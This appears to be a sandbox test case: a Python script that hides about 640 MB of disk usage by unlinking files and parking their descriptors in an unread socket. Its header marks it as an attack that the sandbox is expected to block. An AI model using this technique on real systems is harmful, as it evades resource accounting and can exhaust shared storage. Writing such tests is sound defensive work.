# attack: files without a name in messages that nobody reads: no process has them open, so that nobody's figures show them
# exercise: xor
# expect: failed
# stopped by: this is closed to code that runs here
# needs: network
import os
import socket

sender, receiver = socket.socketpair()
for number in range(40):
    fd = os.open(f"m{number}", os.O_RDWR | os.O_CREAT)
    os.unlink(f"m{number}")
    os.write(fd, b"x" * (16 << 20))
    socket.send_fds(sender, [b"x"], [fd])
    os.close(fd)
raise SystemExit("640 MB are in flight")
